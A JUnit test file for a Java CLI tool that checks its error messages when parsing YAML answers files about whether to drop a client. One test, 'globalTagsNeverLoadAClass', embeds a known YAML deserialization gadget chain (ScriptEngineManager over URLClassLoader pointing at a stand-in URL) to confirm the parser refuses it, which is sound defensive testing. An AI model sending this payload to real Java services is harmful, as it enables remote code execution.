package dev.sifc.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Every way an answers file or an invocation can be wrong: the exact one-line message and exit 2. */
class BatchErrorsTest {
    @TempDir
    Path dir;

    private CliRunner.Result runWith(String content, String... extra) throws IOException {
        return new CliRunner().runWithAnswers(dir, content, extra);
    }

    private static void assertError(CliRunner.Result r, String expectedStderr) {
        assertEquals(2, r.code(), r::toString);
        assertEquals("", r.out(), "nothing on stdout");
        assertEquals(expectedStderr, r.err());
    }

    @Test
    void typoInAChoiceNamesFileLineColumnQuestionAndAllowedValues() throws IOException {
        assertError(runWith("client: X\nanswers:\n  unreasonable-demands.after-hours: sometimez\n", "--allow-missing"),
                "a.yaml:3:37: invalid value \"sometimez\" for unreasonable-demands.after-hours; "
                        + "allowed: never, rarely, sometimes, often, always, 1-5, skip\n");
    }

    @Test
    void typoInAnIdSuggestsTheNearest() throws IOException {
        assertError(runWith("answers:\n  unreasonable-demands.after-hour: often\n", "--allow-missing"),
                "a.yaml:2:3: unknown question id \"unreasonable-demands.after-hour\"; "
                        + "did you mean \"unreasonable-demands.after-hours\"?\n");
    }

    @Test
    void unknownTopLevelKeySuggestsTheNearest() throws IOException {
        assertError(runWith("client: X\nanswres: {}\n", "--allow-missing"),
                "a.yaml:2:1: unknown key \"answres\" in answers file; did you mean \"answers\"?\n"
                        + "(1 more problem(s); run \"should-i-fire-client validate a.yaml\" to see them all)\n");
    }

    @Test
    void errorsAreInGermanWithLangDe() throws IOException {
        assertError(runWith("answers:\n  slow-to-pay.reminders: viele\n", "--allow-missing", "--lang", "de"),
                "a.yaml:2:26: ungültiger Wert „viele“ für slow-to-pay.reminders: erwartet wird eine Zahl von 0 bis 50, "
                        + "geschrieben mit den Ziffern 0-9 (und einem Punkt für Dezimalstellen)\n");
    }

    @Test
    void numbersOutOfRangeAndExoticNumbersAreRejected() throws IOException {
        assertError(runWith("answers:\n  slow-to-pay.reminders: 51\n", "--allow-missing"),
                "a.yaml:2:26: invalid value \"51\" for slow-to-pay.reminders: expected a number from 0 to 50\n");
        for (String exotic : new String[] {"1e309", ".nan", "1:30", "３", "0x10", "99999999999999999999999"}) {
            CliRunner.Result r = runWith("answers:\n  slow-to-pay.reminders: \"" + exotic + "\"\n", "--allow-missing");
            assertEquals(2, r.code(), exotic);
            assertTrue(r.err().startsWith("a.yaml:2:26: invalid value \"" + exotic + "\" for slow-to-pay.reminders"), r::toString);
        }
    }

    @Test
    void yaml11BooleansAndLeadingZerosAreReadAsWritten() throws IOException {
        CliRunner.Result r = runWith("answers:\n  slow-to-pay.payment-worry: no\n  everything-for-nothing.price-pressure: off\n",
                "--allow-missing");
        assertError(r, "a.yaml:3:42: invalid value \"off\" for everything-for-nothing.price-pressure; allowed: yes, no, 1-2, skip\n");
        CliRunner.Result ok = runWith("answers:\n  slow-to-pay.payment-worry: no\n  slow-to-pay.reminders: 010\n",
                "--allow-missing", "--format", "json");
        assertEquals(0, ok.code(), ok::toString);
        assertTrue(ok.out().contains("\"slow-to-pay.payment-worry\":\"no\""), ok.out());
        assertTrue(ok.out().contains("\"slow-to-pay.reminders\":10"), ok.out());
    }

    @Test
    void duplicateKeysNameBothLines() throws IOException {
        assertError(runWith("answers:\n  slow-to-pay.reminders: 3\n  slow-to-pay.reminders: 4\n", "--allow-missing"),
                "a.yaml:3:3: duplicate key \"slow-to-pay.reminders\" (first on line 2)\n");
    }

    @Test
    void missingAnswersAreListedUnlessAllowed() throws IOException {
        CliRunner.Result r = new CliRunner().run("--answers", "examples/partial.yaml");
        assertError(r, "should-i-fire-client: examples/partial.yaml: 27 question(s) have no answer: "
                + "unreasonable-demands.like-employee, unreasonable-demands.last-minute, unreasonable-demands.told-hours, "
                + "everything-for-nothing.price-pressure, everything-for-nothing.invoice-grumbling, everything-for-nothing.extra-work (+21). "
                + "Answer them, write \"skip\", or pass --allow-missing.\n");
        CliRunner.Result allowed = new CliRunner().run("--answers", "examples/partial.yaml", "--allow-missing", "--format", "json");
        assertEquals(0, allowed.code(), allowed::toString);
        assertTrue(allowed.out().contains("\"dont-listen.reworks\":\"skip\""), allowed.out());
        assertTrue(allowed.out().contains("\"stage\":\"unknown\""), allowed.out());
    }

    @Test
    void emptyCommentOnlyListAndNullInputsGetSpecificMessages() throws IOException {
        assertError(runWith(""), "a.yaml:1:1: no answers: the input is empty\n");
        assertError(runWith("# nothing here\n"), "a.yaml:1:1: no answers: the input is empty\n");
        assertError(runWith("- a\n- b\n"), "a.yaml:1:1: expected a mapping for answers file, found a list\n");
        assertError(runWith("just text\n"), "a.yaml:1:1: expected a mapping for answers file, found a scalar\n");
        assertError(runWith("answers:\n  slow-to-pay.reminders:\n", "--allow-missing"),
                "a.yaml:2:25: slow-to-pay.reminders has no value; allowed: 0..50, skip\n");
        assertError(runWith("answers:\n  ? [a, b]\n  : x\n", "--allow-missing"), "a.yaml:2:5: keys in answers must be plain text\n");
        assertError(runWith("answers: {}\n<<: {client: X}\n", "--allow-missing"),
                "a.yaml:2:1: merge keys (<<) are not supported; write the keys out\n");
    }

    @Test
    void globalTagsNeverLoadAClass() throws IOException {
        CliRunner.Result r = runWith("client: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertEquals(2, r.code());
        assertTrue(r.err().startsWith("a.yaml:1:9: "), r::toString);
        CliRunner.Result local = runWith("client: !<tag:example.com,2000:x> X\nanswers: {}\n", "--allow-missing");
        assertEquals(2, local.code());
        assertTrue(local.err().startsWith("a.yaml:1:9: "), local::toString);
    }

    @Test
    void unreadableInputsAreExplained() {
        assertError(new CliRunner().run("--answers", "no-such-file.yaml"),
                "should-i-fire-client: cannot read no-such-file.yaml: no such file\n");
        assertError(new CliRunner().run("--answers", "src"),
                "should-i-fire-client: cannot read src: it is a directory, not a file\n");
    }

    @Test
    void invalidUtf8AndNulBytesAreErrorsWithTheirPosition() throws IOException {
        Files.write(dir.resolve("latin1.yaml"), "client: M\u00fcller\n".getBytes(StandardCharsets.ISO_8859_1));
        assertError(new CliRunner().cwd(dir).run("--answers", "latin1.yaml"),
                "latin1.yaml: byte 9: not valid UTF-8; save the file as UTF-8\n");
        Files.write(dir.resolve("nul.yaml"), "client: X\nanswers:\0\n".getBytes(StandardCharsets.UTF_8));
        assertError(new CliRunner().cwd(dir).run("--answers", "nul.yaml"), "nul.yaml:2:9: a NUL byte: this is not a text file\n");
    }

    @Test
    void usageErrorsSayHowToFixThem() {
        assertError(new CliRunner().run("--lang", "fr"),
                "should-i-fire-client: invalid value \"fr\" for --lang; allowed: en, de\nRun \"should-i-fire-client --help\" for usage.\n");
        assertError(new CliRunner().run("--anwsers", "x"),
                "should-i-fire-client: unknown option --anwsers; did you mean --answers?\nRun \"should-i-fire-client --help\" for usage.\n");
        assertError(new CliRunner().run("--format", "xml"), "should-i-fire-client: invalid value \"xml\" for --format; "
                + "allowed: text, json, markdown\nRun \"should-i-fire-client --help\" for usage.\n");
        assertError(new CliRunner().run("@/dev/zero"),
                "should-i-fire-client: unexpected argument \"@/dev/zero\"\nRun \"should-i-fire-client --help\" for usage.\n");
    }

    @Test
    void noAnswersAndNoInputIsAnError() {
        assertError(new CliRunner().run("--no-input"), "should-i-fire-client: no answers: pass --answers FILE "
                + "(see \"should-i-fire-client template\"), or run in a terminal to be asked\n");
    }

    @Test
    void aBrokenDocumentInAPortfolioKeepsEarlierReportsAndNamesTheDocument() throws IOException {
        String good = Files.readString(Path.of("examples/keep.yaml"));
        CliRunner.Result r = runWith(good + "---\n" + good + "---\nanswers:\n  slow-to-pay.reminders: lots\n", "--format", "json");
        assertEquals(2, r.code(), r::toString);
        assertEquals(2, r.out().lines().count(), "the two good clients were reported");
        assertTrue(r.err().startsWith("a.yaml:") && r.err().contains("invalid value \"lots\"") && r.err().endsWith("(document 3)\n"),
                r::toString);
    }
}
